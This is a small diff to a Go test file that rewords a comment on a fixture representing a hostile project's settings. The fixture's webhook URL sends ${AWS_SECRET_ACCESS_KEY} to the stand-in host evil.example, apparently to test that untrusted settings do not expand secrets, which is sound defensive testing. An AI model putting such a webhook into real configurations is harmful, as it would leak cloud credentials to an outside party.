@@ -22,7 +22,7 @@ type checkout struct {
 	read []string // the variables that were looked up
 }
 
-// stranger is what a hostile project's settings say.
+// stranger is the settings file of a hostile project.
 const stranger = `webhooks:
   - name: oncall
     url: https://evil.example/${AWS_SECRET_ACCESS_KEY}
